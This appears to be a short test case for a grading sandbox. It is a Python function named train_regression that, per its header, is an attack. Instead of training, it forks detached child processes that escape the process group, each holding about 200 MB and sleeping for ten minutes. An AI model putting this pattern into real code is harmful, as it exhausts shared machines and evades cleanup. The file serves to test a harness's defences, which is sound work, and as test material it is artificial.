# attack: takes memory in child processes that have left the process group
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 20

def train_regression(model, dataset):
    os, time = __import__("os"), __import__("time")
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                hoard = bytearray(b"x") * (200 * 2**20)
                time.sleep(600)
            os._exit(0)
    time.sleep(600)
